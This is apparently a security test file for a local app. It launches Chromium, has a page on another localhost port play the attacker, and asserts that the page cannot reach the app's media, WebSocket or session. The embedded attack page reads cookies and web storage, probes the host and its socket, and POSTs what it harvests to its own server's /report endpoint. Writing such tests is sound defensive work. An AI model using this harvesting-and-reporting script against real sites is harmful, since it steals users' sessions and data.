/**
 * Done-when A (issue 12): after the user opens the app, nothing the browser sends to, or exposes on, another
 * 127.0.0.1 port gives access to library media, the app, a token exchange or the WebSocket — a forged Origin
 * included. The browser is real Chromium; the other port is a page an attacker serves on this machine, which
 * records every request the browser makes to it and reports what its scripts could learn; then the attacker
 * tries every string it collected, from outside a browser, with the app's own Origin.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { mkdtempSync, rmSync } from 'node:fs';
import type { Browser } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { candidateOpensSomething, get, socketAnswers } from './attempts';
import { buildBridgeRenderer, ITEM_PATH, launchChromium, openApp, secretLike, startHostRig, type HostRig } from './browser-rig';

let rendererDir: string;
let rig: HostRig;
let browser: Browser;
let attacker: Server;
let attackerPort: number;
const seen: { method: string; url: string; headers: IncomingMessage['headers'] }[] = [];
const reports: string[] = [];

/** The attacker's page: what a script on another local port can learn about the host and its session. */
function attackPage(hostOrigin: string): string {
  return `<!doctype html><html><body><script>
(async () => {
  const host = ${JSON.stringify(hostOrigin)};
  const report = { cookie: document.cookie, storage: JSON.stringify({ ...localStorage, ...sessionStorage }) };
  try { report.page = await (await fetch(host + '/', { credentials: 'include' })).text(); } catch (e) { report.page = String(e); }
  try { report.media = (await fetch(host + '/media/${ITEM_PATH}', { credentials: 'include', mode: 'no-cors' })).type; } catch (e) { report.media = String(e); }
  report.socket = await new Promise((resolve) => {
    const got = [];
    const ws = new WebSocket(host.replace('http', 'ws') + '/ws');
    ws.onopen = () => { ws.send(JSON.stringify({ type: 'hello' })); ws.send(JSON.stringify({ type: 'invoke', id: 1, channel: 'app:info', input: {} })); };
    ws.onmessage = (e) => got.push(String(e.data));
    ws.onerror = ws.onclose = () => resolve(got);
    setTimeout(() => resolve(got), 3000);
  });
  const offers = [];
  const peers = new BroadcastChannel('imagine-studio.session');
  peers.onmessage = (e) => offers.push(e.data);
  peers.postMessage({ type: 'ask' });
  await new Promise((r) => setTimeout(r, 1000));
  report.offers = offers;
  await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
  document.title = 'reported';
})();
</script></body></html>`;
}

beforeAll(async () => {
  rendererDir = mkdtempSync(path.join(os.tmpdir(), 'imagine-rig-renderer-'));
  await buildBridgeRenderer(rendererDir);
  rig = await startHostRig(rendererDir);
  attacker = createServer((req, res) => {
    seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    if (req.method === 'POST') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        reports.push(body);
        res.end('ok');
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(attackPage(rig.host.origin));
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', () => resolve()));
  attackerPort = (attacker.address() as AddressInfo).port;
  browser = await launchChromium();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((r) => attacker?.close(r));
  await rig?.close();
  rmSync(rendererDir, { recursive: true, force: true });
});

describe('A: another local port gets nothing from an open session', () => {
  it('neither what the browser sends there nor what its pages can learn opens the app, its media or its socket', async () => {
    const context = await browser.newContext();
    const app = await context.newPage();
    await openApp(app, rig.host.url);
    // The user is working: the page has shown a library picture.
    await app.evaluate(async (item) => {
      const img = document.createElement('img');
      img.src = (window as unknown as { api: { mediaBase: string } }).api.mediaBase + item;
      document.body.append(img);
      await img.decode();
    }, ITEM_PATH);

    // Then visits pages on another local port (both loopback spellings), in the same browser.
    for (const where of [`http://127.0.0.1:${attackerPort}/`, `http://localhost:${attackerPort}/`]) {
      const evil = await context.newPage();
      await evil.goto(where);
      await evil.waitForFunction(() => document.title === 'reported');
      await evil.close();
    }
    expect(reports).toHaveLength(2);
    for (const text of reports) {
      const report = JSON.parse(text) as { socket: string[]; offers: unknown[]; page: string };
      expect(report.socket.some((m) => m.includes('"result"')), 'the attack page drove the socket').toBe(false);
      expect(report.offers, 'the session was offered to another origin').toEqual([]);
    }

    // Everything the attacker collected: request lines, every header (cookies included) and its pages' reports.
    const collected = JSON.stringify({ seen, reports });
    const candidates = secretLike(collected);
    const cookieHeaders = [...new Set(seen.map((r) => r.headers.cookie).filter((c): c is string => typeof c === 'string'))];
    const forged = { origin: rig.host.origin };
    for (const cookie of cookieHeaders) {
      expect(await socketAnswers(rig.host.origin, { ...forged, cookie }), `socket with the cookie ${cookie}`).toBe(false);
      expect((await get(rig.host.origin, `/media/${ITEM_PATH}`, { cookie })).status, 'media with the cookie').not.toBe(200);
    }
    for (const candidate of candidates) {
      expect(await candidateOpensSomething(rig.host.origin, candidate, ITEM_PATH), candidate).toEqual([]);
    }
    // The page itself: whatever the attacker holds, it gets what anyone gets (public code, no data).
    const anonymous = await get(rig.host.origin, '/');
    for (const cookie of cookieHeaders) {
      const withCookie = await get(rig.host.origin, '/', { cookie });
      expect([withCookie.status, withCookie.body]).toEqual([anonymous.status, anonymous.body]);
    }
    expect(anonymous.body).not.toMatch(/library media|"session"|token=/);

    // And the user's own tab still works.
    const still = await app.evaluate(async () => (await (window as unknown as { api: { invoke(c: string, i: unknown): Promise<{ ok: boolean }> } }).api.invoke('app:ping', { message: 'x' })).ok);
    expect(still).toBe(true);
    await context.close();
  }, 120_000);
});
